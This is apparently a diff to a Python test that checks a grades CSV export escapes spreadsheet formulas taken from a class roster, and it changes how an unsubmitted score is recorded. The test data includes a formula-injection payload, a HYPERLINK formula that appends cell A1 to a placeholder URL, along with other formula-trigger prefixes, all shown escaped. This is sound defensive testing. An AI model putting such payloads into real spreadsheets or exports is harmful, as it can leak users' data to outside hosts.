@@ -66,7 +66,7 @@ def test_the_grades_export_quotes_formulas_from_the_roster(tmp_path):
     [row] = list(csv.DictReader((tmp_path / "grades.csv").open(newline="")))
     assert row["first_name"] == '\'=HYPERLINK("http://example.org/?"&A1,"x")'
     assert (row["last_name"], row["email"], row["lms_user_id"]) == ("'@SUM(1)", "'+1@example.org", "'-7")
-    assert row["student_id"] == "mallory" and float(row["score"]) == 0.0
+    assert row["student_id"] == "mallory" and row["status"] == "not_submitted" and row["score"] == ""
 
 
 def test_sanitize_notebook_reduces_every_part_to_plain_forms():
